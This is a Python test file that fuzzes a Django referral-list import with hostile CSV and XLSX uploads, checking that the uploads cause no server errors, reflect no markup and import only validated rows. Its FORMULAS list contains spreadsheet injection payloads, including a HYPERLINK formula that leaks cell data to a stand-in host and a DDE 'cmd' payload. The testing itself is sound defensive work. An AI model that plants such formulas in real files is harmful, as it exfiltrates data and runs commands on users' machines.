"""Hostile referral lists: binary junk, wrong encodings, huge cells, formulas, missing columns, wrong
types and impossible dates, as CSV and as XLSX. Uploading, previewing and confirming never fail
with a 500 or reflect markup; a refused upload stores nothing; a confirmed import registers exactly
the rows the preview called valid, with exactly the values it checked."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from accounts.tests.factories import CoordinatorFactory
from participants.identity import make_test_identity_number
from participants.importing import COLUMNS, build_participant, parse_referral_file
from participants.models import Participant, ReferralImport, WorkExperience
from taxonomy.tests.factories import OccupationFactory

from .hostile_values import HOSTILE_TEXT, MARKUP, assert_safe, changed_tables, fuzz, row_counts

pytestmark = pytest.mark.django_db

HEADERS = [c.header for c in COLUMNS]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
    "=1+1",
    "+46701234567",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
_serial = iter(range(10**6))


def _valid_row() -> list[Any]:
    birth = dt.date(1950, 1, 1) + dt.timedelta(days=next(_serial) * 11)
    return [
        make_test_identity_number(birth, 982),
        MARKUP[0],
        "Öberg",
        "ung",
        "AF",
        "2026-09-01",
        "",
        "B",
        "gymnasium",
        "4",
        "070-1234567",
        "a@example.org",
        "5321",
        "3",
    ]


XLSX_CELL = st.one_of(
    HOSTILE_TEXT,
    st.sampled_from(FORMULAS),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(9999, 12, 31)),  # noqa: DTZ001 (Excel has no zones)
    st.dates(min_value=dt.date(1900, 1, 1)),
    st.times(),
    st.none(),
)
CSV_CELL = st.one_of(HOSTILE_TEXT, st.sampled_from(FORMULAS), st.just("x" * 200_000))


@st.composite
def tables(draw: st.DrawFn, cell: st.SearchStrategy[Any]) -> list[list[Any]]:
    """A header (sometimes missing, reordered or foreign columns) and rows, some valid, some spoilt."""
    header = draw(
        st.one_of(
            st.just(HEADERS), st.permutations(HEADERS), st.lists(st.sampled_from(HEADERS) | HOSTILE_TEXT, max_size=16)
        )
    )
    rows = []
    for _ in range(draw(st.integers(min_value=0, max_value=4))):
        row = _valid_row()[: len(header)] + [""] * max(0, len(header) - len(HEADERS))
        if header != HEADERS:
            row = [_valid_row()[HEADERS.index(h)] if h in HEADERS else "" for h in header]
        for index in draw(st.sets(st.integers(min_value=0, max_value=max(len(row) - 1, 0)), max_size=3)):
            if index < len(row):
                row[index] = draw(cell)
        rows.append(row + draw(st.lists(cell, max_size=2)))
    return [header, *rows]


@st.composite
def csv_files(draw: st.DrawFn) -> tuple[str, bytes]:
    table = draw(tables(CSV_CELL))
    delimiter = draw(st.sampled_from([";", ",", "\t"]))
    text = "\n".join(delimiter.join(str(c).replace(delimiter, " ") for c in row) for row in table)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"]))
    name = draw(st.sampled_from(["lista.csv", "LISTA.CSV", "lista.txt"]))
    return name, text.encode(encoding, errors="replace")


@st.composite
def xlsx_files(draw: st.DrawFn) -> tuple[str, bytes]:
    workbook = Workbook()
    sheet = workbook.active
    for line, row in enumerate(draw(tables(XLSX_CELL)), start=1):
        for column, value in enumerate(row, start=1):
            try:
                sheet.cell(row=line, column=column, value=value)
            except (
                ValueError,
                TypeError,
                IllegalCharacterError,
            ):  # openpyxl refuses control characters: such a cell stays empty
                continue
    buffer = io.BytesIO()
    workbook.save(buffer)
    return "lista.xlsx", buffer.getvalue()


JUNK = st.tuples(
    st.sampled_from(["lista.csv", "lista.xlsx", "lista.txt", "lista.exe", "lista", ".csv"]), st.binary(max_size=3000)
)
FILES = st.one_of(csv_files(), xlsx_files(), JUNK)


def _client() -> tuple[Client, Any]:
    coordinator = CoordinatorFactory()
    client = Client()
    client.force_login(coordinator)
    return client, coordinator


def _import(client: Client, name: str, content: bytes, all_or_nothing: bool) -> None:
    before = row_counts()
    response = client.post(reverse("participants:import_upload"), {"file": SimpleUploadedFile(name, content)})
    assert_safe(response)
    if response.status_code != 302:
        assert response.status_code == 200
        assert not changed_tables(before)
        return
    pending_before = before["participants.ReferralImport"]
    assert changed_tables(before) == {"participants.ReferralImport": (pending_before, pending_before + 1)}
    preview = client.get(response["Location"])
    assert_safe(preview)
    pending = ReferralImport.objects.latest("pk")
    rows = parse_referral_file(bytes(pending.content), pending.filename)
    valid = [row for row in rows if row.valid]
    known = set(Participant.objects.values_list("pk", flat=True))
    before = row_counts()
    confirm = {"confirm": "1", **({"all_or_nothing": "on"} if all_or_nothing else {})}
    response = client.post(preview.request["PATH_INFO"], confirm)
    assert_safe(response)
    created = Participant.objects.exclude(pk__in=known).order_by("pk")
    if response.status_code != 302:
        # Refused (all or nothing with a bad row): nothing is written and the upload stays for another try.
        assert all_or_nothing and len(valid) < len(rows)
        assert not changed_tables(before)
        return
    assert not ReferralImport.objects.filter(pk=pending.pk).exists()
    assert len(created) == len(valid)
    for participant, row in zip(created, valid, strict=True):
        expected = build_participant(row)
        for field in ("identity_number", "first_name", "last_name", "target_group", "referral_source", "referral_date",
                      "residence_permit_date", "establishment_programme_end", "swedish_level", "education_level",
                      "hours_per_day", "phone", "email"):  # fmt: skip
            assert getattr(participant, field) == getattr(expected, field), field
        experience = list(
            WorkExperience.objects.filter(participant=participant).values_list("occupation_id", flat=True)
        )
        assert experience == ([row.values["occupation"]] if row.values.get("occupation") else [])


@fuzz(30)
@given(upload=FILES, all_or_nothing=st.booleans())
def test_hostile_referral_lists(upload: tuple[str, bytes], all_or_nothing: bool) -> None:
    OccupationFactory(code="5321")
    client, _ = _client()
    _import(client, *upload, all_or_nothing)
